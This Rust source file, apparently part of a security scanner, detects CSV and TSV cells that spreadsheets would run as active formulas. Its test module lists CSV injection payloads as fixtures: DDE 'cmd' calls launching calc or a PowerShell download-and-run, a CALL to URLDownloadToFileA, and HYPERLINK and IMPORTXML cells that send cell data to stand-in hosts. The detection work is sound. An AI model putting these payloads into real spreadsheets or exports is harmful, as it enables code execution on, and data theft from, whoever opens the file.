//! Tables as text (RFC 4180): cells between commas, tabs, semicolons or bars.
//!
//! A cell that a spreadsheet takes for a formula is told if the formula acts: it starts a program
//! (DDE), or sends something to an address. Sums, negative numbers and telephone numbers do not.

use custos_core::finding::{Location, Severity};

use super::cells::Cells;
use crate::route::Head;
use crate::rules;
use crate::source::read_full;
use crate::text::unicode::{self, show};
use crate::work::{Input, Limited, Look};

const PIECE: usize = 64 << 10;
/// Longest cell that is looked at as one.
const MAX_CELL: usize = 1 << 20;
/// Most formulas that are told one by one.
const TOLD: u32 = 20;

/// Returns true for a text whose first lines have the same number of cells, or whose name says that
/// it is a table.
pub(super) fn recognises(head: &Head, input: &Input<'_>) -> bool {
    let bytes = head.bytes();
    let control = |byte: &u8| *byte < 0x20 && !matches!(byte, b'\t' | b'\n' | b'\r' | 0x1b);
    if bytes.is_empty() || bytes.iter().any(control) {
        return false;
    }
    if matches!(bytes.first(), Some(b'{' | b'[' | b'<')) || bytes.starts_with(b"#!") {
        return false;
    }
    matches!(input.extension().as_str(), "csv" | "tsv") || separator(bytes).is_some()
}

// What stands between cells, if it is the same in all lines at the beginning.
fn separator(head: &[u8]) -> Option<u8> {
    [b',', b'\t', b';', b'|'].into_iter().find(|separator| {
        let mut counts = Vec::new();
        let (mut count, mut quoted) = (0_usize, false);
        for byte in head {
            match byte {
                b'"' => quoted = !quoted,
                b'\n' if !quoted => counts.push(std::mem::take(&mut count)),
                byte if byte == separator && !quoted => count = count.saturating_add(1),
                _ => {}
            }
        }
        let first = counts.first().copied().unwrap_or(0);
        first > 0 && counts.len() >= 3 && counts.iter().all(|count| *count == first)
    })
}

/// Looks at all cells.
pub(super) fn examine(look: &mut Look<'_, '_, '_>) {
    let mut head = vec![0; 4096];
    let count = read_full(look.input.bytes, 0, &mut head).unwrap_or(0);
    let named = if look.input.extension() == "tsv" {
        b'\t'
    } else {
        b','
    };
    let mut table = Table {
        separator: separator(head.get(..count).unwrap_or_default()).unwrap_or(named),
        look,
        cells: Cells::new("cells"),
        cell: Vec::new(),
        line: 1,
        row: 1,
        quoted: false,
        told: 0,
    };
    // A limit is noted where it fired.
    let _ = table.read();
}

struct Table<'l, 'i, 'w, 's> {
    look: &'l mut Look<'i, 'w, 's>,
    separator: u8,
    cells: Cells,
    cell: Vec<u8>,
    line: u32,
    row: u32,
    quoted: bool,
    told: u32,
}

impl Table<'_, '_, '_, '_> {
    fn read(&mut self) -> Result<(), Limited> {
        let size = self.look.input.bytes.len();
        let mut buffer = vec![0; PIECE];
        let mut at = 0;
        while at < size {
            self.look.work.tick(&self.look.input.path)?;
            let count = read_full(self.look.input.bytes, at, &mut buffer).unwrap_or(0);
            if count == 0 {
                self.look.gap("it cannot be read");
                return Ok(());
            }
            for byte in buffer.get(..count).unwrap_or_default() {
                self.byte(*byte)?;
            }
            at = at.saturating_add(u64::try_from(count).unwrap_or(u64::MAX));
        }
        self.end_cell()?;
        self.cells.flush(self.look)?;
        if self.quoted {
            let mut finding = rules::media::DATA_BROKEN.finding(
                Location {
                    line: Some(self.row),
                    ..self.look.here()
                },
                "a quote of the table is not closed: readers differ in where its rows end",
            );
            finding.severity = Severity::Low;
            self.look.work.find(finding);
        }
        self.look.covered.parsed(0..size);
        Ok(())
    }

    fn byte(&mut self, byte: u8) -> Result<(), Limited> {
        match byte {
            // A quote opens at the beginning of a cell, and again behind one that closed.
            b'"' => {
                let closed = self.cell.starts_with(b"\"") && self.cell.ends_with(b"\"");
                self.quoted = !self.quoted && (self.cell.is_empty() || closed);
            }
            b'\n' => {
                self.line = self.line.saturating_add(1);
                if !self.quoted {
                    self.end_cell()?;
                    self.row = self.line;
                    return Ok(());
                }
            }
            byte if byte == self.separator && !self.quoted => return self.end_cell(),
            _ => {}
        }
        self.cell.push(byte);
        if self.cell.len() >= MAX_CELL {
            self.end_cell()?;
        }
        Ok(())
    }

    fn end_cell(&mut self) -> Result<(), Limited> {
        let cell = std::mem::take(&mut self.cell);
        let plain = cell.strip_suffix(b"\r").unwrap_or(&cell);
        let plain = plain.strip_prefix(b"\"").unwrap_or(plain);
        let plain = plain.strip_suffix(b"\"").unwrap_or(plain);
        if plain.is_empty() {
            return Ok(());
        }
        if let Some((what, severity)) = formula(plain) {
            self.formula(plain, what, severity);
        }
        if self.row == 1 {
            let at = self.look.here();
            unicode::inspect_name(self.look, &at, &String::from_utf8_lossy(plain));
        }
        self.cells.add(self.look, plain)
    }

    fn formula(&mut self, cell: &[u8], what: &str, severity: Severity) {
        self.told = self.told.saturating_add(1);
        if self.told > TOLD {
            return;
        }
        let place = Location {
            line: Some(self.row),
            ..self.look.here()
        };
        let message = format!("a cell is a formula that {what}");
        let mut finding = rules::media::DATA_FORMULA.finding(place, message);
        finding.severity = severity;
        finding.evidence = Some(show(&String::from_utf8_lossy(cell)));
        self.look.work.find(finding);
    }
}

/// Returns what a formula does, if it is one and acts.
pub(super) fn formula(cell: &[u8]) -> Option<(&'static str, Severity)> {
    const CALLS: [&str; 4] = ["CALL(", "REGISTER(", "REGISTER.ID(", "EXEC("];
    const SENDS: [&str; 7] = [
        "WEBSERVICE(",
        "HYPERLINK(",
        "IMPORTXML(",
        "IMPORTDATA(",
        "IMPORTHTML(",
        "IMPORTFEED(",
        "IMPORTRANGE(",
    ];
    let text = cell.trim_ascii_start();
    let [b'=' | b'+' | b'-' | b'@', rest @ ..] = text else {
        return None;
    };
    if rest.len() < 4 || rest.len() > 8192 {
        return None;
    }
    let upper = String::from_utf8_lossy(rest).to_uppercase();
    // PROGRAM|'ARGUMENTS'!CELL, and the function.
    let dde = upper.split_once('|').is_some_and(|(program, rest)| {
        program
            .rsplit(|c: char| !c.is_alphanumeric())
            .next()
            .is_some_and(|name| name.len() >= 2)
            && rest.trim_start().starts_with(['\'', '"', '/'])
            && rest.contains('!')
    });
    if dde || upper.contains("DDE(") || upper.contains("CMD|") {
        return Some(("starts a program", Severity::High));
    }
    let starts = |name: &str| {
        upper
            .trim_start_matches(['+', '-', '@', '='])
            .starts_with(name)
    };
    if CALLS.iter().any(|name| starts(name)) && upper.contains('"') {
        return Some(("calls a program", Severity::High));
    }
    let sends = SENDS.iter().any(|name| upper.contains(name));
    let address = upper.contains("://") || upper.contains("\\\\") || upper.contains("CONCAT");
    (sends && address).then_some(("reaches an address", Severity::Medium))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_told_if_they_act() {
        for cell in [
            "=cmd|' /C calc'!A0",
            "+cmd|'/c powershell IEX(wget 1.1.1.1)'!A1",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "\t=MSEXCEL|'\\..\\..\\x.exe'!A",
            "=CALL(\"urlmon\",\"URLDownloadToFileA\")",
        ] {
            let found = formula(cell.as_bytes()).map(|(_, severity)| severity);
            assert_eq!(found, Some(Severity::High), "{cell}");
        }
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://a.example?v=\",A2),\"//a\")",
            "=WEBSERVICE(\"https://a.example\")",
        ] {
            let found = formula(cell.as_bytes()).map(|(_, severity)| severity);
            assert_eq!(found, Some(Severity::Medium), "{cell}");
        }
        for cell in [
            "-12.5",
            "+49 30 123456",
            "=SUM(A1:A9)",
            "@user said hi",
            "- item | other",
            "=",
            "-",
            "+1",
            "=1+2",
            "-inf",
            "@media print {a|b}",
            "=== heading ===",
        ] {
            assert_eq!(formula(cell.as_bytes()), None, "{cell}");
        }
    }
}
